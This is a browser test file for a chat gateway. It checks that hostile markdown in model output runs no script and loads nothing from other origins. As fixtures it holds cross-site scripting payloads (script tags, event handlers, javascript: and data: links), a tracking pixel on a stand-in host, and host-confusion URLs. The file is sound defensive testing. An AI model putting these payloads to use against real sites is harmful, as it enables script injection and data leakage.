"""Model output is hostile: nothing of it runs or leaves for another origin, pictures wait for consent."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote

import pytest
import requests
from playwright.sync_api import BrowserContext, Page, Route, expect

from demo.gateway import GatewayProcess
from tests.browser.conftest import TINY_PNG, TOKEN, send, wait_for_end
from upstream_emulator.emulator import UpstreamEmulator

HOSTILE = """<script>window.hit = 1</script><img src=x onerror="window.hit = 2">
<svg onload="window.hit = 3"></svg>

[a](javascript:window.hit=4) [b](data:text/html,<script>window.hit=5</script>) [c](vbscript:x)

[d](JaVaScRiPt:window.hit=6) [e](&#106;avascript:x) <javascript:window.hit=7> <iframe src="http://evil.test"></iframe>

![track](https://evil.test/pixel.png?u=1) ![x](data:image/svg+xml,<svg/onload=window.hit=8>)

| <b onclick="window.hit=9">x</b> | [f](javascript:1) |
|---|---|
| `<i>` | **<u>bold</u>** |

[good](https://example.org/page) <style>body { display: none }</style>"""


def test_hostile_markdown_does_nothing(page: Page, upstream: UpstreamEmulator, outside: list[str]) -> None:
    upstream.account("browser-secret", next=[f"text say={quote(HOSTILE)}"])
    send(page, "be evil")
    wait_for_end(page)
    expect(page.locator(".text")).to_contain_text("<script>window.hit = 1</script>")
    for refused in page.locator(".text span:not(.remote)").all():
        refused.click()
    hrefs = page.locator(".text a").evaluate_all("(links) => links.map((link) => link.href)")
    assert all(href.startswith(("http://", "https://")) for href in hrefs)
    assert "https://example.org/page" in hrefs
    assert page.locator(".text :is(script, img, svg, iframe, style, b, i, u)").count() == 0
    assert page.evaluate("window.hit") is None
    expect(page.locator(".remote")).to_have_count(1)
    assert outside == []


def test_a_picture_waits_for_consent_and_comes_through_the_gateway(
    page: Page, upstream: UpstreamEmulator, outside: list[str]
) -> None:
    url = f"{upstream.url}/testpath/5e56234b-34ae-593c-ba4e-3f7ba77b5768_0.png"
    upstream.account("browser-secret", next=[f"text say={quote(f'![cat]({url})')}"])
    send(page, "a cat")
    wait_for_end(page)
    assert page.locator(".text img").count() == 0
    page.get_by_role("button", name="Show").click()
    page.locator(".text img").evaluate("(image) => image.decode()")
    assert outside == []


@pytest.fixture
def fetched(page: Page) -> list[str]:
    """The addresses that the page has the gateway fetch; each is a picture here."""
    addresses: list[str] = []

    def answer(route: Route) -> None:
        body = route.request.post_data_json
        assert body is not None
        addresses.append(body["url"])
        if "lost" in body["url"]:
            route.fulfill(status=400, json={"error": {"code": "file_unavailable", "message": "gone"}})
        else:
            route.fulfill(body=TINY_PNG, content_type="image/png")

    page.route("**/page/picture", answer)
    return addresses


def test_pictures_of_the_web_chat_itself_are_shown_at_once(
    page: Page, upstream: UpstreamEmulator, fetched: list[str]
) -> None:
    text = "![cat](https://sfile.chatglm.cn/a.png)\n\nmore\n\nand more"
    upstream.account("browser-secret", next=[f"text say={quote(text)}"])
    send(page, "a cat")
    wait_for_end(page)
    page.locator(".text img").evaluate("(image) => image.decode()")
    assert fetched == ["https://sfile.chatglm.cn/a.png"]
    with page.expect_download() as download:
        page.get_by_role("link", name="Download").click()
    assert download.value.suggested_filename == "glm-api.png"


@pytest.mark.parametrize(
    "address",
    [
        "http://sfile.chatglm.cn/a.png",
        "https://sfile.chatglm.cn:8443/a.png",
        "https://user@sfile.chatglm.cn/a.png",
        "https://chatglm.cn.evil.test/a.png",
        "https://evilchatglm.cn/a.png",
        "https://evil.test/chatglm.cn/a.png",
        "https://evil.test\\@chatglm.cn/a.png",
    ],
)
def test_everything_else_waits_for_a_click(
    page: Page, upstream: UpstreamEmulator, fetched: list[str], address: str
) -> None:
    upstream.account("browser-secret", next=[f"text say={quote(f'![cat](<{address}>)')}"])
    send(page, "a cat")
    wait_for_end(page)
    expect(page.get_by_role("button", name="Show")).to_have_count(1)
    assert fetched == []


def test_a_hostile_answer_has_few_pictures_loaded(
    page: Page, upstream: UpstreamEmulator, fetched: list[str]
) -> None:
    text = " ".join(f"![{number}](https://sfile.chatglm.cn/{number}.png)" for number in range(60))
    upstream.account("browser-secret", next=[f"text say={quote(text)}"])
    send(page, "cats")
    wait_for_end(page)
    expect(page.get_by_role("button", name="Show")).to_have_count(20)
    expect(page.locator(".text img")).to_have_count(40)
    assert len(fetched) == len(set(fetched)) == 40


def test_a_picture_that_is_lost_is_asked_for_once(
    page: Page, upstream: UpstreamEmulator, fetched: list[str]
) -> None:
    """Although its paragraph goes on growing."""
    text = "![cat](https://sfile.chatglm.cn/lost.png) " + "and so on " * 60
    upstream.account("browser-secret", next=[f"text say={quote(text)} pace=40"])
    send(page, "a cat")
    wait_for_end(page)
    expect(page.locator(".text")).to_contain_text("and so on and so on")
    assert fetched == ["https://sfile.chatglm.cn/lost.png"]


def test_what_is_shown_at_once_means_the_same_host_to_the_gateway(
    page: Page, upstream: UpstreamEmulator, fetched: list[str]
) -> None:
    """A browser reads a backslash as a slash, other programs do not."""
    text = "![cat](<https://chatglm.cn\\\\@evil.test/a.png>)"
    upstream.account("browser-secret", next=[f"text say={quote(text)}"])
    send(page, "a cat")
    wait_for_end(page)
    page.locator(".text img").wait_for()
    assert fetched == ["https://chatglm.cn/@evil.test/a.png"]


def test_the_policy_is_strict(gateway: GatewayProcess) -> None:
    answer = requests.get(f"{gateway.url}/", timeout=5)
    policy = answer.headers["Content-Security-Policy"]
    assert policy.startswith("default-src 'none'; script-src 'self'; style-src 'self'")
    assert "frame-ancestors 'none'" in policy
    assert "unsafe" not in policy
    assert answer.headers["Referrer-Policy"] == "no-referrer"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert " style=" not in answer.text
    assert "<script>" not in answer.text


@pytest.fixture
def other_origin(tmp_path: Path) -> Iterator[str]:
    (tmp_path / "index.html").write_text("<!doctype html><title>elsewhere</title>")

    class Quiet(SimpleHTTPRequestHandler):
        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), partial(Quiet, directory=str(tmp_path))) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}"
        server.shutdown()


def test_another_origin_can_stream_and_abort(
    context: BrowserContext, gateway: GatewayProcess, upstream: UpstreamEmulator, other_origin: str
) -> None:
    page = context.new_page()
    page.goto(other_origin)
    page.evaluate(
        """async ([url, token]) => {
        window.control = new AbortController();
        const answer = await fetch(url + "/v1/chat/completions", {
          method: "POST", signal: window.control.signal,
          headers: {Authorization: "Bearer " + token, "Content-Type": "application/json"},
          body: JSON.stringify({model: "glm", stream: true,
            messages: [{role: "user", content: "[[chunks n=2000 pace=30]]"}]})});
        await answer.body.getReader().read(); }""",
        [gateway.url, TOKEN],
    )
    assert upstream.state()["open_streams"] == 1
    page.evaluate("window.control.abort()")
    upstream.wait_until(lambda state: state["open_streams"] == 0, seconds=1)
